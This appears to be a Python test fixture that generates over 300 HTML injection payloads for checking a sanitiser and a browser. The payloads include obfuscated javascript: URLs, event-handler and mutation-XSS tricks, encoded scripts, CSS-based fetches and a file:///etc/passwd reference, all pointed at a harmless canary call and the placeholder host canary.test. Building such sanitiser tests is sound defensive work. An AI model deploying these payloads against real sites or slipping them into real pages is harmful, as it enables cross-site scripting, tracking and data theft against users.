"""HTML that wants to run something or to fetch something: over 300 payloads for the sanitiser and for a real browser.

Every script calls `CANARY_CALL`, every address lies under `CANARY_URL`: a page that shows a payload is safe if the call
was not made and nothing under the address was asked for.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator

CANARY_CALL = "window.top.pwned=1"
CANARY_URL = "http://canary.test/"

_SCHEMES = (
    "javascript:{call}",
    "JaVaScRiPt:{call}",
    " javascript:{call}",
    "java\tscript:{call}",
    "java\nscript:{call}",
    "java&#10;script:{call}",
    "java&Tab;script:{call}",
    "&#106;avascript:{call}",
    "&#x6a&#x61vascript:{call}",
    "\x01javascript:{call}",
    "javascript&colon;{call}",
    "javascript://%0a{call}",
    "vbscript:{call}",
    "data:text/html,<script>{call}</script>",
    "data:text/html;base64,{coded}",
    "data:image/svg+xml,<svg onload={call}>",
    "blob:{url}x",
    "filesystem:{url}x",
    "view-source:{url}x",
    "file:///etc/passwd",
)
_SCHEME_PLACES = (
    '<a href="{value}">x</a>',
    "<a href='{value}'>x</a>",
    '<img src="{value}">',
    '<form action="{value}"><input type=submit></form>',
    '<iframe src="{value}"></iframe>',
    '<svg><a xlink:href="{value}"><text>x</text></a></svg>',
)
_EVENTS = (
    "onload onerror onclick onmouseover onfocus onanimationstart ontoggle onbegin onwheel onpointerenter onpageshow "
    "onbeforeprint onscroll oncopy ondrag oninput onplay ontransitionend"
)
_EVENT_TAGS = (
    "<img src=x {event}={call}>",
    '<div {event}="{call}" tabindex=1 autofocus>x</div>',
    "<body {event}='{call}'>",
    "<svg {event}={call}>",
    "<details open {event}={call}>x</details>",
    "<p/{event}={call}//>x",
)
_FETCHES = (
    '<img src="{url}a.gif">',
    "<img src={url}b.gif>",
    '<img src="//canary.test/c.gif">',
    '<img srcset="{url}d.gif 1x, {url}e.gif 2x">',
    '<picture><source srcset="{url}f.webp"><img></picture>',
    '<image src="{url}g.gif">',
    '<input type=image src="{url}h.gif">',
    '<body background="{url}i.gif">',
    '<table background="{url}j.gif"><tr><td background="{url}k.gif">x</table>',
    '<video poster="{url}l.gif" src="{url}m.mp4" autoplay></video>',
    '<audio src="{url}n.mp3" autoplay></audio>',
    '<track src="{url}o.vtt">',
    '<embed src="{url}p.swf">',
    '<object data="{url}q.swf"></object>',
    '<iframe src="{url}r.html"></iframe>',
    '<frameset><frame src="{url}s.html"></frameset>',
    '<link rel=stylesheet href="{url}t.css">',
    '<link rel=prefetch href="{url}u">',
    '<link rel=dns-prefetch href="{url}">',
    '<link rel="icon" href="{url}v.ico">',
    '<base href="{url}"><img src="w.gif">',
    '<meta http-equiv=refresh content="0;url={url}x">',
    '<meta http-equiv="Content-Security-Policy" content="report-uri {url}y">',
    "<style>body{{background:url({url}z.gif)}}</style>",
    "<style>@import '{url}aa.css';</style>",
    "<style>@font-face{{font-family:x;src:url({url}ab.woff)}} p{{font-family:x}}</style><p>x</p>",
    '<div style="background:url({url}ac.gif)">x</div>',
    "<div style='background-color:url(\"{url}ad.gif\")'>x</div>",
    '<div style="background-image:image-set(url({url}ae.gif) 1x)">x</div>',
    '<div style="list-style:url({url}af.gif)">x</div>',
    '<div style="cursor:url({url}ag.cur),auto">x</div>',
    '<div style="content:url({url}ah.gif)">x</div>',
    '<div style="border-image:url({url}ai.gif) 1">x</div>',
    '<div style="mask:url({url}aj.svg#m)">x</div>',
    '<div style="filter:url({url}ak.svg#f)">x</div>',
    '<div style="color:red;background:u\\72l({url}al.gif)">x</div>',
    '<div style="font-family:x;src:url({url}am.woff)">x</div>',
    '<div style="width:expression({call})">x</div>',
    '<div style="behavior:url({url}an.htc)">x</div>',
    '<div style="-moz-binding:url({url}ao.xml#x)">x</div>',
    '<svg><image href="{url}ap.png"/></svg>',
    '<svg><image xlink:href="{url}aq.png"/></svg>',
    '<svg><use href="{url}ar.svg#x"/></svg>',
    '<svg><feImage href="{url}as.png"/></svg>',
    "<svg><style>*{{background:url({url}at.png)}}</style></svg>",
    '<math><mglyph src="{url}au.png"></math>',
    '<a ping="{url}av" href="https://example.org/">x</a>',
    '<img lowsrc="{url}aw.gif">',
    '<img dynsrc="{url}ax.avi">',
    '<img longdesc="{url}ay">',
    '<script src="{url}az.js"></script>',
    '<v:fill src="{url}ba.png"/>',
    '<applet code="{url}bb.class"></applet>',
    '<bgsound src="{url}bc.mid">',
    '<blink><img src="{url}bd.gif"></blink>',
    '<portal src="{url}be"></portal>',
    '<img src="cid:x" src="{url}bf.gif">',
    '<img src="x-disarmed:{url}bg.gif" data-remote-src="x">',
    '<img data-remote-src="{url}bh.gif" src="{url}bi.gif" onerror={call}>',
    '<table><tr><td style="background-color:#fff url({url}bj.gif)">x</table>',
)
_SCRIPTS = (
    "<script>{call}</script>",
    "<SCRIPT>{call}</SCRIPT>",
    "<scr<script>ipt>{call}</scr</script>ipt>",
    "<script\x00>{call}</script>",
    "<script/x>{call}</script>",
    "<script>{call}",
    "<<script>{call}//<</script>",
    "<svg><script>{call}</script></svg>",
    "<svg><script href=data:,{call} /></svg>",
    "<math><mtext><script>{call}</script></mtext></math>",
    "<template><script>{call}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={call}>">',
    "<textarea><script>{call}</script></textarea>",
    "<title><img src=x onerror={call}></title>",
    "<style><img src=x onerror={call}></style>",
    "<xmp><img src=x onerror={call}></xmp>",
    "<plaintext><img src=x onerror={call}>",
    "<listing>&lt;img src=x onerror={call}&gt;</listing>",
    "<!--><img src=x onerror={call}>-->",
    "<!-- --!><img src=x onerror={call}>",
    "<!--[if gte IE 4]><script>{call}</script><![endif]-->",
    "<![CDATA[<img src=x onerror={call}>]]>",
    "<?xml version='1.0'?><script>{call}</script>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={call}&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror={call}>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={call}>",
    '<a href="https://example.org/" title=\'"><img src=x onerror={call}>\'>x</a>',
    "<img alt='`><img src=x onerror={call}>'>",
    '<div title="&quot;&gt;&lt;img src=x onerror={call}&gt;">x</div>',
    "&lt;script&gt;{call}&lt;/script&gt;",
    '<iframe srcdoc="<script>{call}</script>"></iframe>',
    '<object data="data:text/html,<script>{call}</script>"></object>',
    '<embed src="data:text/html;base64,{coded}">',
    "<isindex action=javascript:{call} type=image>",
    "<button formaction=javascript:{call}>x</button>",
    "<input onfocus={call} autofocus>",
    "<select onfocus={call} autofocus>",
    "<keygen onfocus={call} autofocus>",
    "<marquee onstart={call}>x</marquee>",
    "<video><source onerror={call}></video>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{call}>",
    "<svg><foreignObject><iframe srcdoc='<script>{call}</script>'></foreignObject></svg>",
    "<meta charset=utf-7>+ADw-script+AD4-{call}+ADw-/script+AD4-",
    "<base href=javascript:{call}//><a href=.>x</a>",
    "<img src='x' style='x:\\27;}} onerror={call}'>",
    "<div id=x name=y class=z onclick={call}>clobber</div>",
    "<form id=test><input name=attributes onfocus={call}></form>",
)


def payloads() -> Iterator[str]:
    """Yield the payloads, each once."""
    coded = base64.b64encode(f"<script>{CANARY_CALL}</script>".encode()).decode()
    words = {"call": CANARY_CALL, "url": CANARY_URL, "coded": coded}
    for scheme in _SCHEMES:
        for place in _SCHEME_PLACES:
            yield place.format(value=scheme.format(**words))
    for event in _EVENTS.split():
        for tag in _EVENT_TAGS:
            yield tag.format(event=event, **words)
    for template in (*_FETCHES, *_SCRIPTS):
        yield template.format(**words)
